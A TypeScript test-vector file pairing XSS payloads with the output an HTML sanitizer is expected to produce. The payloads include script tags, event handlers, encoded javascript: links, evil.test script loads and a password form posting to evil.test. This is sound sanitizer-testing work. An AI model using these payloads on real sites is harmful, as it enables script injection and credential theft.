import type { MarkupVector } from './markupVector.ts';

type Row = readonly [description: string, value: string];

const NOTHING_LEFT: readonly Row[] = [
  ['a script in capitals', '<SCRIPT>alert(1)</SCRIPT>'],
  ['a script with a slash', '<script/x>alert(1)</script>'],
  ['a script from another host', '<script src=//evil.test/x.js></script>'],
  ['a module', '<script type=module>import "//evil.test"</script>'],
  ['an image with an event', '<img src=x onerror=alert(1)>'],
  ['an image without an end', '<img src=x onerror=alert(1)'],
  ['an image with slashes for spaces', '<img/src=x/onerror=alert(1)>'],
  ['an image with a back quote', '<img src=`x`onerror=alert(1)>'],
  ['an image element', '<image src=x onerror=alert(1)>'],
  ['a tracking image', '<img src="https://evil.test/pixel.gif">'],
  ['an image element', '<picture><source srcset="//evil.test/a"><img src=x></picture>'],
  ['a built-in custom element', '<b is="x-evil">a</b>'],
  ['a frame set', '<frameset onload=alert(1)><frame src=x></frameset>a'],
];

const TEXT_LEFT: readonly Row[] = [
  ['a script without an end', 'a<script>alert(1)'],
  ['a script link', '<a href="javascript:alert(1)">a</a>'],
  ['a script link with a tab', '<a href="java&Tab;script:alert(1)">a</a>'],
  ['a script link with a line feed', '<a href="java&NewLine;script&colon;alert(1)">a</a>'],
  [
    'a script link in decimal references',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  ],
  [
    'a script link in long references without ends',
    '<a href="&#0000106&#0000097vascript:alert(1)">a</a>',
  ],
  ['a script link after control characters', '<a href="&#1;&#14; javascript:alert(1)">a</a>'],
  ['a script link after a no-break space', '<a href="\u00a0javascript:alert(1)">a</a>'],
  ['a script link after an Ogham space', '<a href="\u1680javascript:alert(1)">a</a>'],
  ['a script link with NUL', '<a href="java\0script:alert(1)">a</a>'],
  ['a script link with a soft hyphen', '<a href="java\u00adscript:alert(1)">a</a>'],
  ['a data link', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  ['a Visual Basic link', '<a href="vbscript:msgbox(1)">a</a>'],
  ['a blob link', '<a href="blob:https://shop.test/1">a</a>'],
  ['a file system link', '<a href="filesystem:https://shop.test/temporary/a">a</a>'],
  ['a link to another host without a scheme', '<a href="//evil.test">a</a>'],
  ['a link to another host by backslashes', '<a href="/\\evil.test">a</a>'],
  ['a link to another host with a tab', '<a href="/&#9;/evil.test">a</a>'],
  ['a link with a user name', '<a href="https://www.aroma.test@evil.test">a</a>'],
  ['an XLink address', '<a xlink:href="javascript:alert(1)">a</a>'],
  ['a form that hides attributes', '<form><input name=attributes><input name=nodeName></form>a'],
  ['a style element', '<style>*{display:none}</style>a'],
  ['a style element with an import', '<style>@import"//evil.test"</style>a'],
  ['a linked style', '<link rel=stylesheet href=//evil.test>a'],
  ['a base address', '<base href="//evil.test/">a'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">a'],
  ['a frame', '<iframe src="javascript:alert(1)"></iframe>a'],
  ['a frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>a'],
  ['an object', '<object data="javascript:alert(1)"></object>a'],
  ['an embedded file', '<embed src="javascript:alert(1)">a'],
  ['an applet', '<applet code=x></applet>a'],
  ['a button with its own address', '<button formaction="javascript:alert(1)">a</button>'],
  ['a select', '<select><option>a<script>alert(1)</script></option></select>'],
  ['a video', '<video src=x onerror=alert(1)></video>a'],
  ['a video with a source', '<video><source onerror=alert(1)></video>a'],
  ['an audio element', '<audio src=x onerror=alert(1)></audio>a'],
  ['details', '<details open ontoggle=alert(1)>a</details>'],
  ['a marquee', '<marquee onstart=alert(1)>a</marquee>'],
  ['a dialog', '<dialog open onclose=alert(1)>a</dialog>'],
  ['a body with an event', '<body onload=alert(1)>a'],
  ['a head', '<html><head><title>t</title></head><body>a</body></html>'],
  ['a custom element', '<x-evil onclick=alert(1)>a</x-evil>'],
  ['an unknown element', '<xss onpointerrawupdate=alert(1)>a</xss>'],
  ['a template', '<template><img src=x onerror=alert(1)></template>a'],
];

const BOLD_LEFT: readonly Row[] = [
  ['an event on an allowed element', '<b onclick="alert(1)">a</b>'],
  ['an event without quotes', '<b onmouseover=alert(1)>a</b>'],
  ['an event after a slash', '<b/onclick=alert(1)>a</b>'],
  ['an event after a line feed', '<b\nonclick\n=\nalert(1)>a</b>'],
  ['an event after a form feed', '<b\fonclick=alert(1)>a</b>'],
  ['an event in capitals', '<B ONCLICK=alert(1)>a</B>'],
  ['an animation event', '<b style="animation:x 1s" onanimationstart=alert(1)>a</b>'],
  ['a style', '<b style="background:url(//evil.test)">a</b>'],
  ['ARIA attributes', '<b aria-label="Anmelden" role="button">a</b>'],
  ['a slot', '<b slot="x">a</b>'],
];

const LINK_LEFT: readonly Row[] = [
  ['a focus event', '<a href="/a" onfocus=alert(1) autofocus tabindex=1>a</a>'],
  ['a link with a ping', '<a href="/a" ping="https://evil.test">a</a>'],
  ['a link that downloads', '<a href="/a" download="x.exe">a</a>'],
  ['a link into a named window', '<a href="/a" target="fascia">a</a>'],
  ['a link into the top window', '<a href="/a" target="_top">a</a>'],
  ['a link twice', '<a href="/a" href="javascript:alert(1)">a</a>'],
  ['a name that hides a property', '<a id=location name=cookie href="/a">a</a>'],
];

const PARAGRAPH_LEFT: readonly Row[] = [
  ['a style that covers the page', '<p style="position:fixed;inset:0">a</p>'],
  ['a class and an id', '<p class="fascia-Header" id="cookies">a</p>'],
  ['data attributes', '<p data-part="checkout" data-fascia="header">a</p>'],
  ['an editable paragraph', '<p contenteditable autofocus onfocus=alert(1)>a</p>'],
  ['a popover', '<p popover id=x onbeforetoggle=alert(1)>a</p>'],
];

const REST: readonly (readonly [description: string, value: string, html: string])[] = [
  ['a script', 'a<script>alert(1)</script>b', 'ab'],
  [
    'a script inside a script tag',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    'ipt&gt;alert(1)ipt&gt;',
  ],
  [
    'a link that keeps its opener',
    '<a href="/a" target="_blank" rel="opener">a</a>',
    '<a href="/a" target="_blank" rel="noopener noreferrer">a</a>',
  ],
  ['an address on a span', '<span href="javascript:alert(1)">a</span>', '<span>a</span>'],
  [
    'links inside links',
    '<a href="/a">a<table><td><a href="/b">b</a></td></table></a>',
    '<a href="/a">a</a><div><a href="/b">b</a> </div>',
  ],
  [
    'a form',
    '<form action="//evil.test"><input name=password><button>Anmelden</button></form>',
    'Anmelden',
  ],
  [
    'a text area',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '&lt;img src=x onerror=alert(1)&gt;',
  ],
  [
    'a declarative shadow root',
    '<div><template shadowrootmode=open><script>alert(1)</script></template></div>a',
    '<div></div>a',
  ],
];

/** Elements, attributes and addresses that must be removed, with the expected HTML. */
export const hostileMarkup: readonly MarkupVector[] = [
  ...NOTHING_LEFT.map(([description, value]) => ({ description, value, html: '' })),
  ...TEXT_LEFT.map(([description, value]) => ({ description, value, html: 'a' })),
  ...BOLD_LEFT.map(([description, value]) => ({ description, value, html: '<b>a</b>' })),
  ...LINK_LEFT.map(([description, value]) => ({ description, value, html: '<a href="/a">a</a>' })),
  ...PARAGRAPH_LEFT.map(([description, value]) => ({ description, value, html: '<p>a</p>' })),
  ...REST.map(([description, value, html]) => ({ description, value, html })),
];
